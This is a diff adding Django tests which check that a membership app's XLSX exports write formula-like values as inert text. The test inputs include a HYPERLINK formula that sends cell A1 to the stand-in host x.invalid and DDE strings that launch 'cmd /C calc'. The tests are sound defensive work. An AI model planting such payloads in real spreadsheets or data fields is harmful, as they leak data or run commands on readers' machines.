@@ -95,3 +95,100 @@ def test_uploaded_files_are_not_served_by_path_in_any_mode():
             assert Client().get(f"/media/{name}").status_code == 404
     clear_url_caches()
     importlib.reload(config.urls)
+
+
+# --- 5. Exports never carry live formulas -------------------------------------------------
+
+EVIL = [
+    '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")',
+    "+84912000001+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _assert_no_formula(data: bytes, must_contain: list[str]) -> None:
+    import io
+
+    from openpyxl import load_workbook
+
+    wb = load_workbook(io.BytesIO(data))
+    seen = set()
+    for ws in wb.worksheets:
+        assert ws.freeze_panes == "A2", ws.title
+        assert ws["A1"].font.bold
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+                if isinstance(c.value, str):
+                    seen.add(c.value)
+    for text in must_contain:
+        assert text in seen, text
+
+
+def _xlsx(response) -> bytes:
+    if getattr(response, "streaming", False):
+        return b"".join(response.streaming_content)
+    return response.content
+
+
+def test_member_export_writes_formula_like_text_as_text(people, units, client_for):
+    from suotdoi.organisations.models import Membership, Unit
+
+    member = people["member"]
+    Person.objects.filter(pk=member.pk).update(full_name=EVIL[0])
+    Unit.objects.filter(pk=units["group"].pk).update(name=EVIL[3])
+    Membership.objects.filter(person=member).update(position_title=EVIL[2])
+    c = client_for(people["grassroots_chair"])
+    r = c.get(f"/units/{units['grassroots'].pk}/members/export.xlsx?subtree=on")
+    assert r.status_code == 200
+    _assert_no_formula(_xlsx(r), [EVIL[0], EVIL[2], EVIL[3]])
+
+
+def test_import_error_file_writes_formula_like_text_as_text(people, units, client_for):
+    from tests.conftest import xlsx_bytes
+
+    # (The first would be a real formula in the uploaded file itself, read as its empty value.)
+    rows = [[v, "31/02/2026", "", "0977111001", "", "", "", "", "", ""] for v in EVIL[1:]]
+    c = client_for(people["grassroots_chair"])
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    up = SimpleUploadedFile("x.xlsx", xlsx_bytes(rows))
+    r = c.post(f"/units/{units['grassroots'].pk}/import/", {"file": up})
+    assert r.status_code == 302, r.content[:500]
+    from suotdoi.organisations.models import MemberImport
+
+    imp = MemberImport.objects.latest("pk")
+    r = c.get(f"/units/imports/{imp.pk}/errors.xlsx")
+    assert r.status_code == 200
+    _assert_no_formula(_xlsx(r), EVIL[1:])
+
+
+def test_campaign_export_writes_formula_like_text_as_text(people, units, client_for):
+    from suotdoi.organisations.models import Unit
+    from tests.test_campaigns import launched
+
+    camp = launched(people, units)
+    Unit.objects.filter(pk=units["grassroots"].pk).update(name=EVIL[1])
+    r = client_for(people["provincial_officer"]).get(f"/campaigns/{camp.pk}/export.xlsx")
+    assert r.status_code == 200
+    _assert_no_formula(_xlsx(r), [EVIL[1]])
+
+
+def test_every_xlsx_writer_goes_through_the_safe_sheet_helpers():
+    """A new export that writes cells itself would escape the checks above: find it."""
+    import pathlib
+
+    root = pathlib.Path(__file__).resolve().parent.parent / "suotdoi"
+    offenders = []
+    for path in root.rglob("*.py"):
+        text = path.read_text(encoding="utf-8")
+        if path.name == "sheets.py" or "Workbook(" not in text:
+            continue
+        if "add_row" not in text and path.name != "importing.py":
+            offenders.append(str(path))
+        if "csv.writer" in text:
+            offenders.append(str(path))
+    assert not offenders
